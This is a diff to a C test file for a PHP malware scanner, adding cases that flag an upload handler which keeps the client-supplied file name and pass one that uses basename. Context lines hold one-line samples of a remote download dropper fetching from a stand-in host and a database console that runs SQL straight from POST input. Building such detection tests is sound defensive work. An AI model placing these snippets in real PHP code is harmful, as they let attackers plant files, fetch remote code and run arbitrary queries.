@@ -241,6 +241,10 @@ test_writers(void)
 	/* a download dropper */
 	T_HAS("x.php", "<?php copy('http://example.invalid/s.txt', 'x.php');", PHPSCAN_REMOTE_DROPPER, PHPSCAN_WEAK,
 	      1);
+	/* an uploader that keeps the client's name, and one that does not */
+	T_HAS("x.php", "<?php move_uploaded_file($_FILES['f']['tmp_name'], $_FILES['f']['name']);",
+	      PHPSCAN_UPLOAD_AS_NAMED, PHPSCAN_WEAK, 1);
+	T_CLEAN("x.php", "<?php move_uploaded_file($_FILES['f']['tmp_name'], $dir . '/' . basename($_FILES['f']['name']));");
 	/* a database console */
 	T_HAS("x.php", "<?php $r = mysqli_query($link, $_POST['sql']);", PHPSCAN_SQL_OF_INPUT, PHPSCAN_WEAK, 1);
 	/* a cache file written by the application is not an editor */
